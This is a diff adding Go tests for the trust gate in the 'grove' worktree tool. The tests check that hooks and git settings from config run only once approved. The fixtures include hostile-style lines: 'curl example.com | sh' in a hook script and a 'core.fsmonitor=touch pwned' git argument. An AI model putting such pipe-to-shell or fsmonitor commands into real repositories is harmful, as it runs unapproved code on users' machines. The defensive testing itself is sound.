@@ -0,0 +1,129 @@
+package cmd
+
+import (
+	"bufio"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/verbaux/grove/internal/config"
+	"github.com/verbaux/grove/internal/git"
+)
+
+func TestCreateAsksToTrustHooks(t *testing.T) {
+	cfg := config.Config{
+		WorktreeDir: "../",
+		Prefix:      "testproject",
+		Symlink:     []string{},
+		AfterCreate: "touch hooked",
+	}
+	dir := setupIntegrationRepo(t, cfg)
+	trustHooks = false
+	t.Cleanup(func() { reader = nil })
+	create := func(branch, answer string) error {
+		t.Helper()
+		createName = ""
+		createFrom = ""
+		reader = bufio.NewReader(strings.NewReader(answer))
+		return runCreate(createCmd, []string{branch})
+	}
+
+	if err := create("feature/no", "n\n"); err == nil {
+		t.Fatal("expected create to fail when the hook isn't approved")
+	}
+	if _, err := os.Stat(filepath.Join(filepath.Dir(dir), "testproject-no")); !os.IsNotExist(err) {
+		t.Error("no worktree should be created when the hook isn't approved")
+	}
+
+	if err := create("feature/yes", "y\n"); err != nil {
+		t.Fatalf("create with the hook approved failed: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(filepath.Dir(dir), "testproject-yes", "hooked")); err != nil {
+		t.Errorf("approved hook should have run: %v", err)
+	}
+
+	// Approved once, it runs without asking — an empty answer would decline.
+	if err := create("feature/again", ""); err != nil {
+		t.Fatalf("approved hook should not ask again: %v", err)
+	}
+
+	// A changed command needs a new approval.
+	cfg.AfterCreate = "touch hooked && curl example.com"
+	if err := config.Save(dir, cfg); err != nil {
+		t.Fatal(err)
+	}
+	if err := create("feature/changed", ""); err == nil {
+		t.Error("changed hook should need a new approval")
+	}
+
+	// grove trust approves it up front.
+	if err := runTrust(trustCmd, nil); err != nil {
+		t.Fatalf("trust failed: %v", err)
+	}
+	cfg.AfterCreate = "touch hooked"
+	config.Save(dir, cfg)
+	if err := create("feature/trusted", ""); err != nil {
+		t.Fatalf("create after grove trust failed: %v", err)
+	}
+}
+
+func TestHookScriptTrustFollowsContents(t *testing.T) {
+	root := t.TempDir()
+	script := filepath.Join(root, ".grove", "hooks", "after-create")
+	os.MkdirAll(filepath.Dir(script), 0755)
+	os.WriteFile(script, []byte("#!/bin/sh\nnpm ci\n"), 0755)
+
+	before, err := createHooks(root, config.Config{})
+	if err != nil || len(before) != 1 {
+		t.Fatalf("createHooks = %+v, %v; want the script", before, err)
+	}
+	os.WriteFile(script, []byte("#!/bin/sh\nnpm ci\ncurl example.com | sh\n"), 0755)
+	after, _ := createHooks(root, config.Config{})
+	if before[0].key == after[0].key {
+		t.Error("editing a hook script should change what needs approving")
+	}
+}
+
+func TestCreateHooksCoverRollback(t *testing.T) {
+	cfg := config.Config{
+		Database: config.DatabaseConfig{Name: "app_{{alias}}", Create: "createdb {{name}}", Drop: "dropdb {{name}}"},
+		Kube:     config.KubeConfig{Namespace: "{{alias}}", Up: "helm install", Down: "helm uninstall"},
+	}
+	hooks, err := createHooks(t.TempDir(), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keys := map[string]bool{}
+	for _, h := range hooks {
+		keys[h.key] = true
+	}
+	for _, want := range []string{"dropdb {{name}}", "helm uninstall"} {
+		if !keys[want] {
+			t.Errorf("createHooks lacks %q, which a failed create runs", want)
+		}
+	}
+}
+
+func TestGitSettingsNeedApproval(t *testing.T) {
+	cfg := config.Config{WorktreeDir: "../", Prefix: "testproject", Git: config.GitConfig{
+		Binary: "/tmp/not-git",
+		Args:   []string{"-c", "core.fsmonitor=touch pwned"},
+	}}
+	setupIntegrationRepo(t, cfg)
+	trustHooks = false
+	t.Cleanup(func() { git.Configure("", nil, nil) })
+
+	configureGit(startupConfig())
+	if git.Binary() != "git" || len(git.GlobalArgs()) > 0 {
+		t.Fatalf("unapproved git settings applied: %s %v", git.Binary(), git.GlobalArgs())
+	}
+
+	if err := runTrust(trustCmd, nil); err != nil {
+		t.Fatal(err)
+	}
+	configureGit(startupConfig())
+	if git.Binary() != "/tmp/not-git" || len(git.GlobalArgs()) != 2 {
+		t.Errorf("approved git settings not applied: %s %v", git.Binary(), git.GlobalArgs())
+	}
+}